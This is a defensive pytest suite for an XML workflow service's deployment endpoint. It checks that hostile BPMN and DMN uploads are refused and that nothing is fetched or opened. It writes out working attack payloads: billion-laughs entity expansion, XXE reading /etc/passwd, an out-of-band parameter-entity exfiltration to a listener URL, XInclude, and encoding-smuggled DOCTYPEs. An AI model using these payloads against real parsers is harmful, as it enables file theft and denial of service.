"""Hostile uploads through POST /deployments: entity attacks, external resources, XInclude, oversize,
too many or too deeply nested elements, bad encodings.

Every one is refused with a 4xx in well under a second; nothing is fetched (a loopback listener counts
the connections it accepts), no local file is opened (a FIFO counts its readers: a parser that opened
it would also block until a writer came) and nothing of /etc/passwd comes back.
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import importlib.metadata
import os
import socket
import threading
import time
import tomllib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from packaging.requirements import Requirement
from packaging.version import Version

from aimatrix.settings import Settings

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
PASSWD = Path("/etc/passwd")
CANARY = b"root:x:0:0:canary-from-a-trap"


@dataclass
class Traps:
    """A loopback TCP listener and a FIFO that count who reaches them."""

    url: str
    fifo: Path
    connections: int = 0
    fifo_reads: int = 0
    stop: threading.Event = field(default_factory=threading.Event)

    def counts(self) -> tuple[int, int]:
        return self.connections, self.fifo_reads


def _listen(traps: Traps, server: socket.socket) -> None:
    server.settimeout(0.05)
    while not traps.stop.is_set():
        try:
            conn, _ = server.accept()
        except TimeoutError:
            continue
        traps.connections += 1
        with conn:
            # answer like a web server would, with something worth leaking
            body = b'<!ENTITY % leak "' + CANARY + b'">'
            with contextlib.suppress(OSError):
                conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


def _watch_fifo(traps: Traps) -> None:
    while not traps.stop.is_set():
        try:
            fd = os.open(traps.fifo, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as err:
            if err.errno != errno.ENXIO:  # ENXIO: nobody has it open for reading
                raise
            time.sleep(0.005)
            continue
        traps.fifo_reads += 1
        with contextlib.suppress(OSError):
            os.write(fd, CANARY)
        os.close(fd)


@pytest.fixture(scope="module")
def traps(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Traps]:
    fifo = tmp_path_factory.mktemp("traps") / "secret"
    os.mkfifo(fifo)
    server = socket.create_server(("127.0.0.1", 0))
    traps = Traps(url=f"http://127.0.0.1:{server.getsockname()[1]}", fifo=fifo)
    threads = [
        threading.Thread(target=_listen, args=(traps, server), daemon=True),
        threading.Thread(target=_watch_fifo, args=(traps,), daemon=True),
    ]
    for thread in threads:
        thread.start()
    yield traps
    traps.stop.set()
    for thread in threads:
        thread.join(timeout=2)
    server.close()


def model(key: str, *, extensions: str = "", documentation: str = "", root_attrs: str = "") -> str:
    """A valid, deployable process; the hostile part goes into the places given."""
    return f"""<bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="defs_{key}" targetNamespace="t"{root_attrs}>
  <bpmn:process id="{key}" isExecutable="true">
    <bpmn:documentation>{documentation}</bpmn:documentation>
    <bpmn:extensionElements>{extensions}</bpmn:extensionElements>
    <bpmn:startEvent id="start"><bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:endEvent id="end"><bpmn:incoming>f1</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end" />
  </bpmn:process>
</bpmn:definitions>
"""


XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


def _billion_laughs(t: Traps, key: str) -> bytes:
    doctype = f'<!DOCTYPE bpmn:definitions [<!ENTITY l0 "lol">{LAUGHS}]>\n'
    return (XML_DECL + doctype + model(key, documentation="&l9;")).encode()


def _quadratic(t: Traps, key: str) -> bytes:
    doctype = f'<!DOCTYPE bpmn:definitions [<!ENTITY a "{"A" * 50_000}">]>\n'
    return (XML_DECL + doctype + model(key, documentation="&a;" * 40_000)).encode()


def _external_entity(system_id: Callable[[Traps], str]) -> Callable[[Traps, str], bytes]:
    def build(t: Traps, key: str) -> bytes:
        doctype = f'<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "{system_id(t)}">]>\n'
        return (XML_DECL + doctype + model(key, documentation="&xxe;")).encode()

    return build


def _parameter_entity(t: Traps, key: str) -> bytes:
    doctype = f'<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "{t.url}/evil.dtd"> %remote;]>\n'
    return (XML_DECL + doctype + model(key, documentation="&leak;")).encode()


def _parameter_entity_exfiltration(t: Traps, key: str) -> bytes:
    # the classic out-of-band read: a file's content smuggled into a URL the parser then fetches
    doctype = (
        f'<!DOCTYPE bpmn:definitions [<!ENTITY % file SYSTEM "file://{PASSWD}">'
        f"<!ENTITY % wrap \"<!ENTITY &#37; send SYSTEM '{t.url}/?d=%file;'>\"> %wrap; %send;]>\n"
    )
    return (XML_DECL + doctype + model(key)).encode()


def _external_dtd(system_id: Callable[[Traps], str], padding: int = 0) -> Callable[[Traps, str], bytes]:
    def build(t: Traps, key: str) -> bytes:
        comment = f"<!-- {'x' * padding} -->\n" if padding else ""
        doctype = f'<!DOCTYPE bpmn:definitions SYSTEM "{system_id(t)}">\n'
        return (XML_DECL + comment + doctype + model(key)).encode()

    return build


def _public_dtd(t: Traps, key: str) -> bytes:
    doctype = f'<!DOCTYPE bpmn:definitions PUBLIC "-//Hostile//DTD X//EN" "{t.url}/public.dtd">\n'
    return (XML_DECL + doctype + model(key)).encode()


def _utf16_doctype(t: Traps, key: str) -> bytes:
    # In UTF-16 no byte string "<!DOCTYPE" appears: a byte search cannot see the declaration.
    doctype = f'<!DOCTYPE bpmn:definitions SYSTEM "file://{t.fifo}">\n'
    text = '<?xml version="1.0" encoding="UTF-16"?>\n' + doctype + model(key)
    return text.encode("utf-16-le")


def _utf7_doctype(t: Traps, key: str) -> bytes:
    doctype = f'+ADw-!DOCTYPE bpmn:definitions SYSTEM "file://{t.fifo}"+AD4-\n'
    return ('<?xml version="1.0" encoding="UTF-7"?>\n' + doctype + model(key)).encode()


def _xinclude(href: Callable[[Traps], str]) -> Callable[[Traps, str], bytes]:
    def build(t: Traps, key: str) -> bytes:
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href(t)}" parse="text"/>'
        return (XML_DECL + model(key, extensions=include)).encode()

    return build


def _too_many_elements(t: Traps, key: str) -> bytes:
    many = '<x:a xmlns:x="urn:x"/>' * 60_000
    return (XML_DECL + model(key, extensions=many)).encode()


def _too_deep(levels: int) -> Callable[[Traps, str], bytes]:
    def build(t: Traps, key: str) -> bytes:
        nested = '<x:a xmlns:x="urn:x">' * levels + "</x:a>" * levels
        return (XML_DECL + model(key, extensions=nested)).encode()

    return build


def _invalid_utf8(t: Traps, key: str) -> bytes:
    return (XML_DECL + model(key, documentation="@")).encode().replace(b"@", b"caf\xc3 \xff\xfe")


def _latin1_declared(t: Traps, key: str) -> bytes:
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + model(key, documentation="café")
    return text.encode("latin-1")


def _nul_byte(t: Traps, key: str) -> bytes:
    return (XML_DECL + model(key, documentation="a\0b")).encode()


REFUSED: dict[str, tuple[Callable[[Traps, str], bytes], str]] = {
    "billion-laughs": (_billion_laughs, "DOCTYPE"),
    "quadratic-blowup": (_quadratic, "DOCTYPE"),
    "external-entity-file": (_external_entity(lambda t: f"file://{PASSWD}"), "DOCTYPE"),
    "external-entity-fifo": (_external_entity(lambda t: f"file://{t.fifo}"), "DOCTYPE"),
    "external-entity-http": (_external_entity(lambda t: f"{t.url}/xxe"), "DOCTYPE"),
    "parameter-entity-http": (_parameter_entity, "DOCTYPE"),
    "parameter-entity-exfiltration": (_parameter_entity_exfiltration, "DOCTYPE"),
    "external-dtd-http": (_external_dtd(lambda t: f"{t.url}/bpmn.dtd"), "DOCTYPE"),
    "external-dtd-fifo": (_external_dtd(lambda t: f"file://{t.fifo}"), "DOCTYPE"),
    "external-dtd-after-long-comment": (_external_dtd(lambda t: f"file://{t.fifo}", padding=8192), "DOCTYPE"),
    "public-dtd-http": (_public_dtd, "DOCTYPE"),
    "utf16-doctype": (_utf16_doctype, "NUL"),
    "utf7-doctype": (_utf7_doctype, "not well-formed"),
    "xinclude-file": (_xinclude(lambda t: f"file://{PASSWD}"), "XInclude"),
    "xinclude-fifo": (_xinclude(lambda t: f"file://{t.fifo}"), "XInclude"),
    "xinclude-http": (_xinclude(lambda t: f"{t.url}/include"), "XInclude"),
    "too-many-elements": (_too_many_elements, "too many elements"),
    "too-deep": (_too_deep(80), "nested deeper than"),
    "far-too-deep": (_too_deep(100_000), "not well-formed"),
    "invalid-utf8": (_invalid_utf8, "not UTF-8"),
    "latin1-declared": (_latin1_declared, "not UTF-8"),
    "nul-byte": (_nul_byte, "NUL"),
}


async def _post(api: httpx.AsyncClient, name: str, content: bytes) -> tuple[httpx.Response, float]:
    began = time.perf_counter()
    response = await api.post("/deployments", files=[("files", (name, content, "application/xml"))])
    return response, time.perf_counter() - began


def _assert_nothing_leaked(traps: Traps, before: tuple[int, int], response: httpx.Response) -> None:
    assert traps.counts() == before, f"a trap was reached (connections, FIFO reads): {before} -> {traps.counts()}"
    assert "root:" not in response.text and CANARY.decode() not in response.text
    first_line = PASSWD.read_text().splitlines()[0]
    assert first_line not in response.text


@pytest.mark.parametrize("case", list(REFUSED))
async def test_hostile_upload_is_refused_fast_without_touching_anything(
    api: httpx.AsyncClient, traps: Traps, case: str
) -> None:
    build, fragment = REFUSED[case]
    key = f"hostile_{case.replace('-', '_')}"
    content = build(traps, key)
    before = traps.counts()
    response, elapsed = await _post(api, "hostile.bpmn", content)
    print(f"{case}: {len(content)} bytes, {response.status_code} in {elapsed * 1000:.0f} ms")
    assert response.status_code == 422, response.text[:500]
    assert elapsed < 1.0, f"{case} took {elapsed:.2f}s"
    [error] = response.json()["detail"]
    assert error["file"] == "hostile.bpmn"
    assert fragment in error["message"], error
    await _settle()
    _assert_nothing_leaked(traps, before, response)
    assert (await api.get(f"/definitions/{key}")).status_code == 404


async def test_oversize_upload_is_refused_with_413(api: httpx.AsyncClient, traps: Traps, settings: Settings) -> None:
    limit = settings.max_upload_bytes
    body = model("hostile_oversize")
    padding = "<!-- " + "x" * (limit - len(body) - len(XML_DECL)) + " -->\n"
    content = (XML_DECL + padding + body).encode()
    assert len(content) > limit
    before = traps.counts()
    response, elapsed = await _post(api, "big.bpmn", content)
    print(f"oversize: {len(content)} bytes, {response.status_code} in {elapsed * 1000:.0f} ms")
    assert response.status_code == 413, response.text[:500]
    assert elapsed < 1.0, f"oversize took {elapsed:.2f}s"
    assert f"larger than {limit} bytes" in response.json()["detail"][0]["message"]
    _assert_nothing_leaked(traps, before, response)
    assert (await api.get("/definitions/hostile_oversize")).status_code == 404


async def test_hostile_dmn_is_refused_like_bpmn(api: httpx.AsyncClient, traps: Traps) -> None:
    doctype = f'<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "{traps.url}/dmn">]>\n'
    dmn = (
        '<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="n">'
        "&xxe;</definitions>"
    )
    before = traps.counts()
    response, elapsed = await _post(api, "hostile.dmn", (XML_DECL + doctype + dmn).encode())
    assert response.status_code == 422 and "DOCTYPE" in response.json()["detail"][0]["message"]
    assert elapsed < 1.0
    await _settle()
    _assert_nothing_leaked(traps, before, response)


@pytest.mark.parametrize(
    ("case", "root_attrs", "prolog"),
    [
        (
            "schema-location-http",
            ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            ' xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL {url}/BPMN20.xsd"',
            "",
        ),
        (
            "no-namespace-schema-location-fifo",
            ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="file://{fifo}"',
            "",
        ),
        ("stylesheet-pi", "", '<?xml-stylesheet type="text/xsl" href="{url}/style.xsl"?>\n'),
    ],
)
async def test_references_that_are_only_hints_are_never_followed(
    api: httpx.AsyncClient, traps: Traps, case: str, root_attrs: str, prolog: str
) -> None:
    """schemaLocation and stylesheet PIs are hints that modelling tools write; the model is valid.

    It deploys, validated against the schema on disk, and nothing it names is fetched or opened.
    """
    key = f"hint_{case.replace('-', '_')}"
    fill = {"url": traps.url, "fifo": traps.fifo}
    content = (XML_DECL + prolog.format(**fill) + model(key, root_attrs=root_attrs.format(**fill))).encode()
    before = traps.counts()
    response, elapsed = await _post(api, f"{key}.bpmn", content)
    print(f"{case}: {response.status_code} in {elapsed * 1000:.0f} ms")
    assert response.status_code in (200, 201), response.text
    assert elapsed < 1.0, f"{case} took {elapsed:.2f}s"
    await _settle()
    _assert_nothing_leaked(traps, before, response)


async def _settle() -> None:
    """Give a connection or FIFO open that a parser might have started a moment to be counted."""
    await asyncio.sleep(0.05)


def test_lxml_is_a_safe_release() -> None:
    installed = Version(importlib.metadata.version("lxml"))
    assert installed >= Version("6.1"), f"lxml {installed} is older than 6.1"
    pyproject = tomllib.loads((Path(__file__).parent.parent / "pyproject.toml").read_text())
    [pin] = [Requirement(d) for d in pyproject["project"]["dependencies"] if Requirement(d).name == "lxml"]
    assert installed in pin.specifier
    for older in ("4.9.4", "5.3.0", "6.0.2"):
        assert Version(older) not in pin.specifier, f"pyproject lets lxml {older} in: {pin}"
